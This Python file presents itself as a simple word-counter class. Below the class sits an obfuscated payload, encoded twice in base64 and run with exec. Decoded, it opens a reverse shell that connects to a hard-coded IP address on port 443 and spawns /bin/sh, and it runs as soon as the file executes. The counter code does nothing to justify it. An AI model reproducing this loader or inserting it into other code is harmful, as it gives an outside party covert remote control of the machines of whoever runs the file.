#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import base64
payload = "YVcxd2IzSjBJSE52WTJ0bGRDeHZjeXh3ZEhrN2N6MXpiMk5yWlhRdWMyOWphMlYwS0NrN2N5NWpiMjV1WldOMEtDZ2lNVGN5TGpFMkxqUXVNaUlzTkRRektTazdXMjl6TG1SMWNESW9jeTVtYVd4bGJtOG9LU3htS1NCbWIzSWdaaUJwYmlBb01Dd3hMRElwWFR0d2RIa3VjM0JoZDI0b0lpOWlhVzR2YzJnaUtRPT0="
exec(base64.b64decode(base64.b64decode(payload)))
